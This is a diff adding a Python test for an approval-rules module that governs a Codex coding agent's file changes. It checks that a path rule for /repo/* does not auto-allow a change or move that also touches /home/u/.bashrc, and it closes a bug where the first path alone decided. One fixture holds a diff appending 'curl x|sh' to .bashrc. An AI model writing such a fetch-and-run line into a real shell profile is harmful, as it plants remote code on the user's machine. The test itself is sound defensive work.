@@ -224,3 +224,26 @@ def test_a_codex_request_still_pending_at_its_turns_end_is_withdrawn() -> None:
                         "params": {"threadId": "th-1", "turn": {"id": "turn-1", "status": "completed"}}})
     assert [e["type"] for e in events] == ["approval_withdrawn", "turn_end"]
     assert events[0]["approval"] == "4" and events[1]["outcome"] == "ok"
+
+
+def test_a_codex_change_of_several_paths_or_a_move_is_allowed_by_a_path_rule_only_when_every_path_matches() -> None:
+    """Issue 31, item 6: a prefix rule once matched a multi-file change through its first path."""
+    from roost.rules.approvals import decide, level
+
+    def change(*changes: dict[str, Any]) -> dict[str, Any]:
+        rig = codex_in_a_turn()
+        rig.frame({"jsonrpc": "2.0", "method": "item/started", "params": {
+            "threadId": "th-1", "turnId": "turn-1", "startedAtMs": 1,
+            "item": {"type": "fileChange", "id": "fc-1", "status": "inProgress", "changes": list(changes)}}})
+        [event] = rig.frame({"jsonrpc": "2.0", "id": 3, "method": "item/fileChange/requestApproval", "params": {
+            "threadId": "th-1", "turnId": "turn-1", "itemId": "fc-1", "startedAtMs": 1}})
+        return event["what"]
+
+    policy = [level("ask", ["apply_patch:/repo/*"])]
+    inside = {"path": "/repo/a.py", "kind": {"type": "update", "move_path": None}, "diff": "-a\n+b\n"}
+    outside = {"path": "/home/u/.bashrc", "kind": {"type": "update", "move_path": None}, "diff": "+curl x|sh\n"}
+    moved = {"path": "/repo/b.py", "kind": {"type": "update", "move_path": "/home/u/.bashrc"}, "diff": ""}
+    assert decide(policy, [], "apply_patch", change(inside)).verdict == "allow"
+    assert decide(policy, [], "apply_patch", change(inside, outside)).verdict == "ask"
+    assert decide(policy, [], "apply_patch", change(moved)).verdict == "ask"
+    assert "/home/u/.bashrc" in change(moved)["path"].split("\n")
